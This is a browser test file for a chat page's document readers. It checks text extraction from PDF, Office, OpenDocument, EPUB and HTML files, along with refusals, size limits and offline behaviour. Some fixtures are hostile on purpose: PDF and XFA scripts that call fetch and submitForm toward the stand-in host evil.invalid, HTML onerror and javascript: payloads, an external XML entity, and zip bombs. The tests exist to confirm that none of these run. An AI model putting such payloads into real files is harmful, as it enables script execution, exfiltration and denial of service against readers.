// SPDX-License-Identifier: MIT
// Documents that the page reads: PDF, DOCX, PPTX, ODT, EPUB and HTML, each written here byte by byte. What is hostile
// or broken ends in a sentence: nothing runs, nothing is fetched, and the page's main thread goes on.
import assert from 'node:assert/strict';
import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { serve } from '../../tools/serve.mjs';
import { ALL_KINDS, CHINESE, lines, makeBomb, makeDocx, makePdf, makeZip, paragraph, readAll, stream } from '../fixtures/documents.mjs';
import { SITE, eventually, station } from './browser.mjs';
import { openChat } from './chat-page.mjs';
import { CATEGORIES, describe, longest, measureLoad, tasksOf } from './tasks.mjs';
import { openFirefox, openMailbox } from './undriven.mjs';

const here = station();
const offline = station({ serviceWorker: true });

/** Limit of one task of the page's thread while documents are read, in ms of processor time. */
const TASK_MS = 200;

/** In the page: what becomes of a file. `times`: its bytes are so many of these. */
async function readHere({ name, base64, times = 1 }) {
  const bytes = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
  const { readDocument } = await import('./documents.js');
  return readDocument(new File(Array(times).fill(bytes), name)).then(({ text }) => text, ({ message }) => ({ refusal: message }));
}

const read = (page, name, content, times) =>
  page.evaluate(readHere, { name, base64: Buffer.from(content).toString('base64'), times });

/** Reads a document, which must be refused with this sentence. */
async function refused(page, name, content, sentence, times) {
  const { refusal } = await read(page, name, content, times);
  assert.match(refusal ?? '', sentence, name);
}

/** Lets a test use the page, and fails on any request but those for the readers themselves. */
const onPage = (work) => async (t) => {
  const { page, context, close } = await openChat(here);
  const asked = [];
  context.on('request', (request) => asked.push(new URL(request.url()).pathname));
  await work(page, t);
  assert.deepEqual(asked.filter((path) => !/^\/(?:documents\.js|reader\.js|pdf\.[\w.]+)$/.test(path)), []);
  await close();
};

test('PDF: lines, paragraphs and pages', onPage(async (page) => {
  const gap = 'BT /F1 12 Tf 72 720 Td (First) Tj 0 -14 Td (and second.) Tj 0 -40 Td (A paragraph.) Tj ET';
  assert.equal(await read(page, 'one.pdf', makePdf([gap])), 'First\nand second.\n\nA paragraph.');
  assert.equal(await read(page, 'two.pdf', makePdf([lines('Mill (old)', 'Grain'), '', lines('End')])),
    '[page 1]\n\nMill (old)\nGrain\n\n[page 3]\n\nEnd');
}));

test('PDF: Chinese by a table of letters that the file only names', onPage(async (page) => {
  const text = 'BT /F1 12 Tf 72 720 Td <4F60597D4E16754C> Tj ET';
  assert.equal(await read(page, 'china.pdf', makePdf([text], CHINESE)), '你好世界');
}));

test('PDF: protected, scanned, broken, cut and too long', onPage(async (page) => {
  const locked = makePdf([lines('Secret')], {
    objects: [`<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`],
    trailer: `/Encrypt 4 0 R /ID [<${'43'.repeat(16)}> <${'43'.repeat(16)}>]`,
  });
  await refused(page, 'locked.pdf', locked, /^locked\.pdf is protected by a password\. Save a copy without one\.$/);
  await refused(page, 'scan.pdf', makePdf(['0 0 m 10 10 l S', '']), /^scan\.pdf has no text, only pictures of its pages/);
  await refused(page, 'broken.pdf', '%PDF-1.7\nnothing more', /^broken\.pdf is damaged, or is no PDF file/);
  await refused(page, 'noise.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256))]), /^noise\.pdf is damaged/);
  const whole = makePdf(Array.from({ length: 4 }, (_, i) => lines(`Page ${i}`)));
  const found = await read(page, 'cut.pdf', whole.subarray(0, whole.length * 0.6));
  assert.ok(found.refusal?.startsWith('cut.pdf is damaged') || /^(?:\[page \d\]\n\n)?Page 0/.test(found), JSON.stringify(found));
  await refused(page, 'long.pdf', makePdf(Array(210).fill(lines(...Array(200).fill('a'.repeat(100)))), { box: '0 -9000 9000 792' }), /^long\.pdf has more than 4 million characters of text\.$/);
  await refused(page, 'big.pdf', Buffer.concat([makePdf([lines('a')]), Buffer.alloc(1e6)]), /^big\.pdf has more than 100 MB, which is the most for a PDF file\.$/, 101);
  await refused(page, 'pages.pdf', makePdf(Array(5001).fill('')), /^pages\.pdf has 5,001 pages; at most 5,000 are read\.$/);
}));

test('PDF: no script of a document runs, and none of its addresses is asked', onPage(async (page) => {
  const script = 'app.alert("run"); this.submitForm("https://evil.invalid/"); fetch("https://evil.invalid/"); globalThis.ran = true;';
  const objects = [
    `<< /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) /Next << /S /URI /URI (https://evil.invalid/next) >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (https://evil.invalid/link) >> >>',
    stream('', '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (https://evil.invalid/image)'),
    `<< /Fields [] /XFA 8 0 R >>`,
    stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("https://evil.invalid/")</script></event></subform></template></xdp:xdp>'),
    stream('{ 1 1 } loop', '/FunctionType 4 /Domain [0 1] /Range [0 1]'),
  ];
  const made = makePdf([`/X Do ${lines('Only text.')}`], {
    objects, catalog: '/OpenAction 4 0 R /AcroForm 7 0 R /Names << /JavaScript << /Names [(a) 4 0 R] >> >> /AA << /WC 4 0 R >>', page: '/Annots [5 0 R] /AA << /O 4 0 R >>',
    font: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); globalThis.ran = true; //)] >>',
  });
  assert.equal(await read(page, 'script.pdf', made), 'Only text.');
  assert.equal(await page.evaluate(() => globalThis.ran), undefined);
}));

const STYLES = '<w:styles><w:style w:styleId="berschrift1"><w:name w:val="heading 1"/></w:style><w:style w:styleId="T"><w:name w:val="Title"/></w:style><w:style w:styleId="L2"><w:name w:val="List Bullet 2"/><w:pPr><w:numPr><w:numId w:val="3"/></w:numPr></w:pPr></w:style></w:styles>';
const item = (text, level, list = 1) => paragraph(text, `<w:numPr><w:ilvl w:val="${level}"/><w:numId w:val="${list}"/></w:numPr><w:tabs><w:tab w:val="left"/></w:tabs>`);
const cell = (content) => `<w:tc>${content}</w:tc>`;

test('DOCX: headings of any language, lists, tables, footnotes; no deleted text', onPage(async (page) => {
  const body = `${paragraph('Mühle', '<w:pStyle w:val="T"/>')}${paragraph('Über uns', '<w:pStyle w:val="berschrift1"/><w:numPr><w:ilvl w:val="1"/><w:numId w:val="2"/></w:numPr>')}
    <w:p><w:r><w:t xml:space="preserve">Flour &amp; </w:t></w:r><w:hyperlink r:id="rId9"><w:r><w:t>bread &#x1F35E;</w:t></w:r></w:hyperlink><w:r><w:footnoteReference w:id="2"/></w:r><w:del><w:r><w:delText>gone</w:delText></w:r></w:del><w:r><w:instrText>PAGE</w:instrText><w:br/><w:t>two</w:t><w:tab/><w:t>three</w:t></w:r></w:p>
    ${item('one', 0)}${item('two', 1)}${paragraph('styled', '<w:pStyle w:val="L2"/>')}${item('none', 0, 0)}
    <w:tbl><w:tr>${cell(paragraph('Name'))}${cell(paragraph('a|b'))}</w:tr><w:tr>${cell(paragraph('rye') + paragraph('dark'))}${cell(`<w:tbl><w:tr>${cell(paragraph('in'))}${cell(paragraph('side'))}</w:tr></w:tbl>`)}</w:tr></w:tbl>
    <w:p><mc:AlternateContent><mc:Choice><w:r><w:t>box</w:t></w:r></mc:Choice><mc:Fallback><w:r><w:t>box</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>`;
  const notes = `<w:footnotes><w:footnote w:type="separator" w:id="0">${paragraph('-')}</w:footnote><w:footnote w:id="2">${paragraph('A note.')}</w:footnote></w:footnotes>`;
  const made = makeDocx(body, [['word/styles.xml', STYLES], ['word/footnotes.xml', notes], ['word/_rels/document.xml.rels', '<Relationships><Relationship Id="rId9" Target="https://evil.invalid/" TargetMode="External"/></Relationships>']]);
  assert.equal(await read(page, 'mill.docx', made), [
    '# Mühle', '# Über uns', 'Flour & bread 🍞[^2]\ntwo\tthree', '- one\n  - two\n  - styled', 'none',
    '| Name | a\\|b |\n| --- | --- |\n| rye dark | in side |', 'box', '[^2]: A note.',
  ].join('\n\n'));
}));

test('PPTX, ODT, ODP and EPUB', onPage(async (page) => {
  const slide = (title, ...texts) => `<p:sld><p:sp><p:nvSpPr><p:nvPr><p:ph type="title"/></p:nvPr></p:nvSpPr><p:txBody><a:p><a:r><a:t>${title}</a:t></a:r></a:p></p:txBody></p:sp><p:sp><p:txBody>${texts.map((text) => `<a:p><a:r><a:t>${text}</a:t></a:r></a:p>`).join('')}</p:txBody></p:sp></p:sld>`;
  const slides = makeZip([
    ['ppt/presentation.xml', '<p:presentation><p:sldIdLst><p:sldId id="256" r:id="rId2"/><p:sldId id="257" r:id="rId1"/></p:sldIdLst></p:presentation>'],
    ['ppt/_rels/presentation.xml.rels', '<Relationships><Relationship Id="rId1" Target="slides/slide1.xml"/><Relationship Id="rId2" Target="/ppt/slides/slide2.xml"/></Relationships>'],
    ['ppt/slides/slide1.xml', slide('Last', 'end')], ['ppt/slides/slide2.xml', slide('First', 'one', 'two')],
  ]);
  assert.equal(await read(page, 'talk.pptx', slides), '[slide 1]\n\n## First\n\none\ntwo\n\n[slide 2]\n\n## Last\n\nend');
  const odt = makeZip([['mimetype', 'application/vnd.oasis.opendocument.text', { method: 0 }], ['content.xml', '<office:text><text:tracked-changes><text:p>gone</text:p></text:tracked-changes><text:h text:outline-level="2">Head</text:h>\n<text:p>A<text:s text:c="3"/>b<text:note><text:note-citation>1</text:note-citation><text:note-body><text:p>note</text:p></text:note-body></text:note>\n c</text:p><text:list><text:list-item><text:p>one</text:p><text:list><text:list-item><text:p>in</text:p></text:list-item></text:list></text:list-item></text:list><table:table><table:table-row><table:table-cell><text:p>x</text:p></table:table-cell><table:table-cell><text:p>y</text:p></table:table-cell></table:table-row></table:table></office:text>']]);
  assert.equal(await read(page, 'text.odt', odt), '## Head\n\nA   b (note ) c\n\n- one\n  - in\n\n| x | y |\n| --- | --- |');
  const odp = makeZip([['mimetype', 'application/vnd.oasis.opendocument.presentation', { method: 0 }], ['content.xml', '<draw:page><text:p>a</text:p></draw:page><draw:page><text:p>b</text:p></draw:page>']]);
  assert.equal(await read(page, 'slides.odp', odp), '[slide 1]\n\na\n\n[slide 2]\n\nb');
  const book = makeZip([
    ['mimetype', 'application/epub+zip', { method: 0 }],
    ['META-INF/container.xml', '<container><rootfiles><rootfile full-path="OEBPS/book.opf"/></rootfiles></container>'],
    ['OEBPS/book.opf', '<package><manifest><item id="a" href="text/one%20a.xhtml"/><item id="b" href="two.xhtml"/></manifest><spine><itemref idref="b"/><itemref idref="a"/></spine></package>'],
    ['OEBPS/text/one a.xhtml', '<?xml version="1.0"?><!DOCTYPE html><html><head><title/></head><body><p>Later</p></body></html>'],
    ['OEBPS/two.xhtml', '<html><head><title>The book</title></head><body><h1>Sooner</h1><p>It&#8217;s so.</p></body></html>'],
  ]);
  assert.equal(await read(page, 'book.epub', book), '[chapter 1]\n\n# Sooner\n\nIt’s so.\n\n[chapter 2]\n\nLater');
}));

test('XLSX: each sheet as CSV, with strings, dates and gaps', onPage(async (page) => {
  const book = (rows, pr = '') => makeZip([
    ['xl/workbook.xml', `<workbook>${pr}<sheets><sheet name="Grain &amp; flour" sheetId="1" r:id="rId1"/><sheet name="Two" sheetId="2" r:id="rId2"/></sheets></workbook>`],
    ['xl/_rels/workbook.xml.rels', '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Target="/xl/worksheets/sheet2.xml"/></Relationships>'],
    ['xl/sharedStrings.xml', '<sst><si><t>name</t></si><si><r><t>a "b", </t></r><r><t xml:space="preserve">c</t></r><rPh sb="0" eb="1"><t>no</t></rPh></si></sst>'],
    ['xl/styles.xml', '<styleSheet><numFmts><numFmt numFmtId="164" formatCode="yyyy\\-mm"/><numFmt numFmtId="165" formatCode="0.0&quot; days&quot;"/></numFmts><cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="164"/><xf numFmtId="165"/><xf numFmtId="20"/></cellXfs></styleSheet>'],
    ['xl/worksheets/sheet1.xml', `<worksheet><sheetData>${rows}</sheetData></worksheet>`],
    ['xl/worksheets/sheet2.xml', '<worksheet><sheetData><row><c t="inlineStr"><is><t>in</t></is></c><c><v>2</v></c></row></sheetData></worksheet>'],
  ]);
  const rows = `<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c></row><row r="2"/>
    <row r="3"><c r="A3" s="1"><v>45418</v></c><c r="B3" s="2"><v>45418.5</v></c><c r="C3" s="3"><v>7</v></c><c r="D3" s="4"><v>0.25</v></c></row>
    <row r="4"><c r="A4" t="b"><v>1</v></c><c r="B4" t="str"><f>A1&amp;"x"</f><v>namex</v></c><c r="C4" t="e"><v>#DIV/0!</v></c><c r="D4" t="s"><v>99</v></c></row>`;
  const csv = 'name,,"a ""b"", c"\n2024-05-06,2024-05-06 12:00,7,06:00\nTRUE,namex,#DIV/0!,';
  assert.equal(await read(page, 'grain.xlsx', book(rows)), `## Grain & flour\n\n${csv}\n\n## Two\n\nin,2`);
  assert.match(await read(page, 'mac.xlsx', book('<row><c s="1"><v>1</v></c></row>', '<workbookPr date1904="1"/>')), /^## Grain & flour\n\n1904-01-02\n/);
  await refused(page, 'wide.xlsx', book('<row><c r="ZZZ1"><v>1</v></c></row>'.repeat(300)), /^wide\.xlsx has more than 4 million characters of text\.$/);
}));

test('HTML: text, headings, lists, tables and links; no scripts and styles', onPage(async (page) => {
  const html = `<!doctype html><html><head><meta charset=windows-1252><title>T\xeftle</title><style>p{}</style><script>globalThis.ran = true; "<p>no</p>"</script></head>
    <body onload="globalThis.ran = true"><h1>Big &amp; <em>bold</em></h1><p>One
    two <a href="https://example.org/a?b=1&amp;c=2">three</a> <a href="javascript:globalThis.ran=true">four</a><img src="https://evil.invalid/i.png" onerror="globalThis.ran=true"><br>five &euro;&nbsp;&unknown; a < b</p>
    <ul><li>x<ul><li><p>y</p></ul><li>z</ul><!-- no --><table><tr><th>a<th>b<tr><td>1</td><td>2</td></tr></table>
    <pre>  keep
   this</pre><svg><text>no</text></svg><iframe srcdoc="<script>globalThis.ran=true</script>">no</iframe><div>end`;
  assert.equal(await read(page, 'page.html', Buffer.from(html, 'latin1')), [
    'Tïtle', '# Big & bold', 'One two [three](https://example.org/a?b=1&c=2) four\nfive €\u00a0&unknown; a < b', '- x\n  - y\n- z',
    '| a | b |\n| --- | --- |\n| 1 | 2 |', '```\n  keep\n   this\n```', 'end',
  ].join('\n\n'));
  assert.equal(await page.evaluate(() => globalThis.ran), undefined);
}));

test('what is not read says so', onPage(async (page) => {
  assert.equal(await read(page, 'about.md', 'A PDF file begins with %PDF-1.7.'), 'A PDF file begins with %PDF-1.7.');
  await refused(page, 'old.doc', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0]), /^old\.doc is an old or a protected Office file\. Save a copy as DOCX, XLSX/);
  await refused(page, 'sheet.ods', makeZip([['mimetype', 'application/vnd.oasis.opendocument.spreadsheet'], ['content.xml', '<a/>']]), /^sheet\.ods is a spreadsheet\. Save a copy as XLSX or CSV\.$/);
  await refused(page, 'code.zip', makeZip([['a.txt', 'a']]), /^code\.zip is an archive without a document/);
  await refused(page, 'empty.docx', makeDocx(''), /^empty\.docx has no text\.$/);
  await refused(page, 'cut.docx', makeDocx(paragraph('a')).subarray(0, -40), /^cut\.docx is damaged/);
  await refused(page, 'wrong.docx', makeZip([['word/document.xml', '', { packed: Buffer.from([7, 7, 7, 7]) }]]), /^wrong\.docx is damaged/);
  await refused(page, 'locked.docx', makeZip([['word/document.xml', 'a', { flags: 1 }]]), /^locked\.docx is protected by a password/);
}));

test('hostile archives and marks: a sentence or the text, soon', onPage(async (page) => {
  const packed = makeBomb(4);
  await refused(page, 'bomb.docx', makeZip([['word/document.xml', '', { packed, size: 10 }]]), /^bomb\.docx would unpack to more than 64 MB, so it is not read\.$/);
  await refused(page, 'bomb.epub', makeZip([['META-INF/container.xml', '<rootfile full-path="o"/>'], ['o', '', { packed, size: 10 }]]), /^bomb\.epub would unpack to more than 64 MB/);
  const line = Buffer.from(`<w:document><w:p><w:r><w:t>${'a'.repeat(5e7)}</w:t></w:r></w:p></w:document>`);
  await refused(page, 'line.docx', makeZip([['word/document.xml', line]]), /^line\.docx has more than 4 million characters of text\.$/);
  const deep = 1000;
  const nested = makeDocx(`${`<w:tbl><w:tr><w:tc>`.repeat(deep)}${paragraph('core')}${'</w:tc></w:tr></w:tbl>'.repeat(deep)}${paragraph('after')}`);
  assert.equal(await read(page, 'nested.docx', nested), '| core |\n| --- |\n\nafter');
  const entities = `<!DOCTYPE d [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;"><!ENTITY x SYSTEM "https://evil.invalid/x">]><w:document><w:p><w:r><w:t>&b;&x;&amp;</w:t></w:r></w:p></w:document>`;
  assert.equal(await read(page, 'entities.docx', makeZip([['word/document.xml', entities]])), '&b;&x;&');
  const outside = makeDocx(`${paragraph('here')}<w:altChunk r:id="r1"/><w:drawing><a:blip r:link="r1"/></w:drawing><w:constructor/><w:__proto__/>`, [['word/_rels/document.xml.rels', '<Relationships><Relationship Id="r1" Target="https://evil.invalid/" TargetMode="External"/></Relationships>']]);
  assert.equal(await read(page, 'outside.docx', outside), 'here');
  for (const [name, start] of [['open.html', '<a "'], ['quotes.html', "<p title='"], ['less.html', '<'], ['comment.html', '<!--'], ['div.html', '<div>'], ['raw.html', '<title>']]) {
    const found = await read(page, name, start, 3e5);
    assert.ok(typeof found === 'string' || / has no text| has more than /.test(found.refusal), `${name}: ${JSON.stringify(found).slice(0, 200)}`);
  }
}));

test('where the reader itself cannot be fetched, that is said, and the message stays', async () => {
  const { page, context, chat, close } = await openChat(here, { expected: /reader\.js/ });
  await context.route('**/reader.js', (route) => route.abort());
  await refused(page, 'a.html', '<html>a', /^a\.html cannot be read: its reader has failed\.$/);
  const chosen = page.waitForEvent('filechooser');
  await page.getByTestId('attach').click();
  await (await chosen).setFiles({ name: 'book.txt', mimeType: '', buffer: Buffer.from('word '.repeat(5000)) });
  await chat.notice.getByText(/only the passages nearest to your question/).waitFor();
  await chat.send('Which word?');
  await chat.notice.getByText(/^The text cannot be read: its reader has failed\.$/).waitFor();
  assert.equal(await chat.input.inputValue(), 'Which word?');
  assert.equal(await page.locator('#attached li').count(), 1);
  await close();
});

test('a text of 50 MB, and a page of 50 MB, are refused', onPage(async (page) => {
  await refused(page, 'line.txt', 'a'.repeat(1e6), /^line\.txt has 50\.0 MB; a text of a message has 4\.0 MB at most\.$/, 50);
  await refused(page, 'line.html', `<html>${'a'.repeat(1e6)}`, /^line\.html has more than 16 MB, which is the most for a page\.$/, 50);
}));

test('no document blocks the page', async (t) => {
  const blank = await here.browser.newPage();
  await here.browser.startTracing(blank, { categories: CATEGORIES });
  const { page, chat, close } = await openChat(here);
  await page.evaluate(() => { performance.mark('test: begin'); });
  const pages = Array.from({ length: 100 }, () => lines(...Array(40).fill('Words about mills and grain, again and again.')));
  const files = { 'many.pdf': makePdf(pages), 'long.pdf': makePdf([lines('a'.repeat(3e6))], { box: '0 -9000 9000 792' }), 'bomb.docx': makeZip([['word/document.xml', '', { packed: makeBomb(1), size: 10 }]]), 'long.docx': makeDocx(paragraph('word '.repeat(5e5)).repeat(2)), 'long.html': Buffer.from(`<html>${'<p><b>word</b> '.repeat(1e5)}`) };
  const drop = async ([name, content]) => {
    const chosen = page.waitForEvent('filechooser');
    await page.getByTestId('attach').click();
    await (await chosen).setFiles({ name, mimeType: '', buffer: content });
    await page.locator('#attached li, .notice').filter({ hasText: name }).first().waitFor();
  };
  for (const one of Object.entries(files)) await drop(one);
  await chat.ask('Which mills?');
  await page.getByText('many.pdf, the nearest passages').waitFor();
  const { traceEvents } = JSON.parse(await here.browser.stopTracing());
  const begin = traceEvents.find(({ name }) => name === 'test: begin').ts;
  const tasks = tasksOf(traceEvents, 'test: begin').filter(({ start }) => start > begin);
  assert.ok(tasks.length > 20, `only ${tasks.length} tasks in the trace`);
  const most = longest(tasks);
  t.diagnostic(`longest task: ${describe(most)}`);
  assert.ok(most.cpu < TASK_MS * measureLoad().allowance, describe(most));
  await close();
  await blank.close();
});

test('a long document shows its pages, and can be cancelled', async () => {
  const { page, chat, close } = await openChat(here);
  const chosen = page.waitForEvent('filechooser');
  await page.getByTestId('attach').click();
  await (await chosen).setFiles({ name: 'long.pdf', mimeType: '', buffer: makePdf(Array.from({ length: 3000 }, (_, i) => lines(...Array(30).fill(`Line of page ${i}`)))) });
  await page.locator('#composer').getByText(/^Reading long\.pdf: page [\d,]+ of 3,000/).waitFor();
  await page.locator('#composer').getByRole('button', { name: 'Cancel' }).last().click();
  await eventually(async () => await page.locator('#composer').getByText(/^Reading/).count() === 0, 'the line is gone');
  assert.equal(await page.locator('#attached li').count(), 0);
  assert.equal(await chat.notice.count(), 0);
  await close();
});

test('a document that was read after its conversation was left says so', async () => {
  const { page, chat, close } = await openChat(here);
  await chat.ask('Hello!');
  const chosen = page.waitForEvent('filechooser');
  await page.getByTestId('attach').click();
  await (await chosen).setFiles({ name: 'long.pdf', mimeType: '', buffer: makePdf(Array.from({ length: 900 }, (_, i) => lines(...Array(30).fill(`Line of page ${i}`)))) });
  await page.locator('#composer').getByText(/^Reading long\.pdf/).waitFor({ state: 'attached' });    // a quick machine shows no line
  await page.getByTestId('new-chat').click();
  await chat.notice.getByText('long.pdf was read for another conversation; add it again.').waitFor();
  assert.equal(await page.locator('#attached li').count(), 0);
  await close();
});

test('PDF files are read without the network once one was read', async () => {
  const { page, context, close } = await openChat({ open: (path, options) => offline.open(path, { ...options, expected: /Failed to load resource|reader\.js|pdf\./ }) });
  await page.locator('html[data-offline=ready]').waitFor();
  await page.reload();
  const made = makePdf([lines('Here.')]);
  const kept = () => page.evaluate(async () => (await Promise.all((await caches.keys()).map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url)))).flat().filter((url) => /\/pdf\./.test(url)).length);
  assert.equal(await kept(), 0, 'it is no part of a first visit');
  await context.setOffline(true);
  await refused(page, 'early.pdf', made, /^early\.pdf cannot be read yet: the part of this page that reads PDF files has to be fetched once/);
  assert.equal(await read(page, 'early.html', '<html>Now.'), 'Now.');
  await context.setOffline(false);
  assert.equal(await read(page, 'first.pdf', made), 'Here.');
  assert.ok(await kept() >= 2);
  await context.setOffline(true);
  assert.equal(await read(page, 'again.pdf', made), 'Here.');
  await refused(page, 'china.pdf', makePdf(['BT /F1 12 Tf 72 720 Td <4F60597D4E16754C> Tj ET'], CHINESE), /^china\.pdf cannot be read yet/);
  await close();
});

test('Firefox reads the same', { timeout: 90_000 }, async (t) => {
  const root = await mkdtemp(join(tmpdir(), 'quern-readers-'));
  t.after(() => rm(root, { recursive: true, force: true }));
  await cp(SITE, root, { recursive: true });
  const { next, url } = await openMailbox(t);
  await writeFile(join(root, 'probe.html'), '<!doctype html><title>Probe</title><script type="module" src="probe.js"></script><ul id="attached"></ul><p id="announcer">');
  await writeFile(join(root, 'probe.js'), `const found = await (${readAll})(${JSON.stringify(ALL_KINDS)}).catch((error) => ({ problem: String(error) }));
await fetch('${url}', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ found }) });`);
  const site = await serve({ root });
  t.after(() => site.close());
  await openFirefox(t, `${site.url}probe.html`);
  const report = await next();
  report.read();
  assert.deepEqual(report.found, ALL_KINDS.map(({ said }) => said));
});
